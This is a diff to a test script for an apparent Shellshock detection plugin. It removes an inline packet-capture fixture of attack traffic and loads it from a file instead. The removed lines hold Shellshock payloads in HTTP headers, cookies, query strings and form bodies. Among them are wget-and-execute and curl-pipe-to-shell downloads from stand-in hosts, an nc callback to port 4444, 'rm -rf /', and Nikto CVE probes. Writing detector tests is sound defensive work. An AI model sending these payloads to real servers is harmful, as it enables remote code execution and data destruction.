@@ -7,55 +7,7 @@ source "$(dirname "$0")/lib.sh"
 hs_setup
 hs_require_plugin shellshock
 
-hs_gencap http <<'EOF'
-time 1411776000
-# A bot's download payload in User-Agent: red, with the URL and host.
-tcp 81.2.69.160:40000 192.0.2.10:80
-c "GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: () { :; }; /bin/bash -c \"cd /tmp;wget http://198.51.100.9/x86;chmod 777 x86;./x86\"\r\nAccept: */*\r\n\r\n" @ua
-s "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n" @ua_resp
-close
-# Nikto's two probes in one request: two items, both green, 6271 and 6278.
-tcp 81.2.69.160:40001 192.0.2.10:80
-c "GET /cgi-bin/printenv HTTP/1.1\r\nUser-Agent: () { :; }; echo 93e4r0-CVE-2014-6271: true;echo;echo;\r\nReferer: () { _; } >_[$($())] { echo 93e4r0-CVE-2014-6278: true; echo;echo; }\r\nHost: 192.0.2.10\r\n\r\n" @nikto
-close
-# A ping callback: yellow, host extracted.
-tcp 216.160.83.58:40002 192.0.2.10:80
-c "GET / HTTP/1.0\r\nUser-Agent: () { :;}; /bin/ping -c1 10.246.50.2\r\n\r\n" @ping
-close
-# A request split over three segments: judged once, on the last one.
-tcp 81.2.69.160:40003 192.0.2.10:80
-c "GET /cgi-bin/a.cgi HTTP/1.1\r\nHost: 192.0.2.10\r\n" @split1
-c "Cookie: lang=en; sid=() { :;}; curl -s http://evil.example/s.sh | sh\r\n" @split2
-c "\r\n" @split3
-close
-# Percent-encoded payload in a query parameter.
-tcp 81.2.69.160:40004 192.0.2.10:80
-c "GET /cgi-bin/q?x=%28%29%20%7B%20%3A%3B%7D%3B%20echo%20hi HTTP/1.1\r\nHost: a\r\n\r\n" @uri
-close
-# A form body in a second segment.
-tcp 81.2.69.160:40005 192.0.2.10:80
-c "POST /cgi-bin/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 61\r\n\r\n" @form1
-c "user=admin&pass=%28%29+%7B+%3A%3B+%7D%3B+nc+198.51.100.5+4444" @form2
-close
-# Ordinary browser traffic and JavaScript with "() {": nothing.
-tcp 89.160.20.112:40006 192.0.2.10:80
-c "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\nReferer: https://www.example.com/(see below) {x}\r\n\r\n" @browser
-s "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 46\r\n\r\n<script>function doClear() { x = 1; }</script>" @js_response
-c "POST /api HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 50\r\n\r\n{\"query\":\"query { viewer() { login } }\",\"v\":\"x\"}  " @graphql
-close
-# Two pipelined requests in one segment; only the second is an attack.
-tcp 81.2.69.160:40007 192.0.2.10:80
-c "GET /1 HTTP/1.1\r\nHost: a\r\n\r\nGET /2 HTTP/1.1\r\nHost: a\r\nX-Api: () { :; }; rm -rf /\r\n\r\n" @pipelined
-close
-# IPv6, and a folded header line (Wireshark 4.0 does not join it; we do).
-tcp [2001:218::1]:40008 [2001:db8::10]:80
-c "GET / HTTP/1.1\r\nHost: a\r\nX-Folded: () { :; };\r\n  /usr/bin/python3 -c 'print(1)'\r\n\r\n" @ipv6
-close
-# Hostile: a 200 kB header, NULs and stray bytes, an unclosed body.
-tcp 81.2.69.160:40009 192.0.2.10:80
-c "GET / HTTP/1.1\r\nX-Big: () { " "A"*200000 "\r\nX-Nul: () { :;}; echo \0\xff\xfe\r\n\r\n" @hostile
-close
-EOF
+hs_gencap http <"$(dirname "$0")/captures/http.gcs"
 
 hs_table http shellshock.grade shellshock.cve shellshock.vector shellshock.header \
     shellshock.command shellshock.url shellshock.host shellshock.payload
